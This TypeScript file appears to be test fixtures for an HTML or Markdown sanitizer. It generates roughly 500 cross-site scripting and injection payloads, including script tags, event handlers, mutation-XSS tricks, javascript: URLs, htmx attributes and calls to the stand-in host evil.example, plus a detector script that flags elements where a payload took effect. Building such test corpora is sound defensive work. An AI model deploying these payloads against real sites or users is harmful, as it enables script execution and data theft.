/** Text that would run, load or send something if a page showed it unescaped. `evil.example` and `/fired` show that. */
const RUN = "fetch('/fired');alert(1)";
const AWAY = "https://evil.example/x";

const HTML = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=/fired>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="${AWAY}#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<img src=/fired>"></iframe>`,
  `<object data="${AWAY}"></object><embed src="${AWAY}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="${AWAY}" ping="${AWAY}">x</a>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}.css>`,
  `<link rel=prefetch href=${AWAY}><link rel=dns-prefetch href=//evil.example>`,
  `<style>@import url(${AWAY}.css); body { background: url(${AWAY}.png) }</style>`,
  `<div style="background:url(${AWAY}.png);position:fixed;inset:0">x</div>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video autoplay onloadstart="${RUN}"><source src=${AWAY}></video>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `<title></title><img src=x onerror="${RUN}">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<form action="${AWAY}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<div hx-get="/fired" hx-trigger="load">x</div>`,
  `<div data-hx-get="/fired" data-hx-trigger="load">x</div>`,
  `<div hx-post="/fired" hx-trigger="revealed" hx-target="body">x</div>`,
  `<hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>`,
  `<div hx-on:load="${RUN}" hx-on--load="${RUN}">x</div>`,
  `<div hx-sse:connect="/fired" hx-ext="sse" sse-connect="/fired">x</div>`,
  `<div hx-vals='js:{x:${RUN}}' hx-get="/fired" hx-trigger="every 1s">x</div>`,
  `<a href="/fired" hx-boost="true" hx-trigger="load">x</a>`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `{{constructor.constructor("${RUN}")()}}\${${RUN}}<%= ${RUN} %>`,
];

const MARKDOWN = [
  `![x](${AWAY}.png)`,
  `![x][ref]\n\n[ref]: ${AWAY}.png`,
  `[![x](${AWAY}.png)](javascript:${RUN})`,
  `[x](javascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](JaVaScRiPt&colon;${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5mZXRjaCgnL2ZpcmVkJyk8L3NjcmlwdD4=)`,
  `[x](${AWAY} 'x" onmouseover="${RUN}')`,
  `![x" onerror="${RUN}](x)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `\`\`\`html" onload="${RUN}\nx\n\`\`\``,
  `\`\`\`\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror="${RUN}"> |`,
  `$$<img src=x onerror="${RUN}">$$`,
  `[1] <cite data-x="</cite><img src=x onerror=${RUN}>"> [2](javascript:${RUN})`,
];

/** Ways to place a payload in a text. */
const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.toUpperCase().replaceAll("FETCH('/FIRED');ALERT(1)", RUN),
  (payload) => `Before ${payload} after`,
  (payload) => `> - **${payload}**`,
  (payload) => `\u202e${payload}\u200b`,
  (payload) => `${payload.slice(0, 3)}\u00ad${payload.slice(3)}`,
  (payload) => `<b>${payload}</b><!-- ${payload} -->`,
];

/** 500 different texts. */
export const PAYLOADS: readonly string[] = PLACES.flatMap((place) => [...HTML, ...MARKDOWN].map(place)).slice(0, 500);

/** Payloads that fit into a name: one line of at most `maxLength` characters. */
export const namesOf = (maxLength: number, count: number): string[] =>
  PAYLOADS.filter((text) => text.length <= maxLength && /^(?! )(?!.* $)[^\p{Cc}\u2028\u2029]+$/u.test(text)).slice(
    0,
    count,
  );

/**
 * Lists the elements and attributes of the current page through which a payload took effect or would: handlers, links
 * that run code, addresses that load by themselves, attributes of htmx.
 */
export const FIND_EFFECTS = `(() => {
  const LOADS = /^(src|srcset|action|formaction|data|poster|ping|background|xlink:href)$/;
  const leads = (value, loads) => {
    let url;
    try { url = new URL(value, location.href); } catch { return false; }
    if (!/^(https?:|mailto:|blob:)$/.test(url.protocol)) return !(loads && url.protocol === "data:" && /^data:(image|,)/.test(value));
    return url.pathname === "/fired" || (loads && url.protocol !== "mailto:" && url.origin !== location.origin);
  };
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    if (/^(iframe|frame|object|embed|base|applet|marquee|hx-partial|math)$/.test(name)) found.push(element);
    if (/^(script|style|link|meta|noscript)$/.test(name) && /fired|evil/.test(element.outerHTML)) found.push(element);
    for (const { name: attribute, value } of element.attributes) {
      const isBad =
        /^on/.test(attribute) ||
        (/^(data-)?(hx|sse)-/.test(attribute) && (leads(value, true) && /^[/h]/.test(value) || /alert\\(/.test(value))) ||
        (attribute === "style" && /evil|fixed/.test(value)) ||
        (attribute === "href" && leads(value, /^(link|use|image)$/.test(name))) ||
        (LOADS.test(attribute) && leads(value, true));
      if (isBad) found.push(element);
    }
  }
  return [...new Set(found)].map((element) => element.outerHTML.slice(0, 200));
})()`;
